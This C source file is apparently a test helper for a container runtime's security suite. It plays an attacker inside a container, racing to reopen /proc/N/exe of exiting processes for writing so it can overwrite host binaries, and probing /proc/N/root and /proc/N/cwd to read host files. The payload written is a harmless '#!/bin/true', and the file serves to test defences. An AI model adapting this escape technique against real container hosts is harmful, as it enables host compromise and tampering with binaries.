/* An attacker inside a container (test/security.test.ts), built static at test
 * time. It watches the pids 2..MAX_PID of its pid namespace until the file
 * `stop` exists and appends what it got to `log`:
 *   racer exe LOG STOP      open /proc/N/exe (O_PATH) of every process that is
 *                           not itself; once that process is gone, reopen the
 *                           fd for writing (retrying on ETXTBSY) and write.
 *                           "CAUGHT <link>" per catch, "WROTE <link>" per win.
 *   racer root LOG STOP A R open /proc/N/root/A and /proc/N/cwd/R (a host file):
 *                           "READ <how>" per win. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_PID 256

static FILE *out;

static void note(const char *what, const char *detail)
{
	fprintf(out, "%s %s\n", what, detail);
	fflush(out);
}

/* Waits for the catch's process to go, then overwrites what its exe was. */
static void overwrite(int fd, int pid, const char *link)
{
	char proc[64], path[64];
	snprintf(proc, sizeof proc, "/proc/%d", pid);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	struct timespec start, now;
	clock_gettime(CLOCK_MONOTONIC, &start);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec - start.tv_sec > 3)
			break;
		int w = open(path, O_WRONLY | O_TRUNC);
		if (w >= 0) {
			static const char payload[] = "#!/bin/true\n";
			if (write(w, payload, sizeof payload - 1) == (ssize_t)(sizeof payload - 1))
				note("WROTE", link);
			else
				note("NOWRITE", strerror(errno));
			close(w);
			return;
		}
		if (errno != ETXTBSY && access(proc, F_OK) != 0) {
			note("REFUSED", strerror(errno));
			return;
		}
	}
	note("TIMEOUT", link);
}

int main(int argc, char **argv)
{
	if (argc < 4)
		return 2;
	int exe = strcmp(argv[1], "exe") == 0;
	if (!exe && argc != 6)
		return 2;
	out = fopen(argv[2], "a");
	if (!out)
		return 3;
	note("READY", argv[1]);
	pid_t self = getpid();
	char self_exe[256] = "";
	if (readlink("/proc/self/exe", self_exe, sizeof self_exe - 1) < 0)
		return 4;
	while (access(argv[3], F_OK) != 0) {
		for (int pid = 2; pid < MAX_PID; pid++) {
			if (pid == self)
				continue;
			char p[4352];
			if (exe) {
				snprintf(p, sizeof p, "/proc/%d/exe", pid);
				int fd = open(p, O_PATH | O_CLOEXEC);
				if (fd < 0)
					continue;
				char link[256] = "";
				snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
				if (readlink(p, link, sizeof link - 1) < 0 || strcmp(link, self_exe) == 0) {
					close(fd);
					continue;
				}
				note("CAUGHT", link);
				overwrite(fd, pid, link);
				close(fd);
				continue;
			}
			const char *how[2] = { "root", "cwd" };
			for (int i = 0; i < 2; i++) {
				snprintf(p, sizeof p, "/proc/%d/%s/%s", pid, how[i], argv[4 + i]);
				int fd = open(p, O_RDONLY | O_CLOEXEC);
				if (fd >= 0) {
					note("READ", p);
					close(fd);
				}
			}
		}
	}
	note("DONE", argv[1]);
	return 0;
}
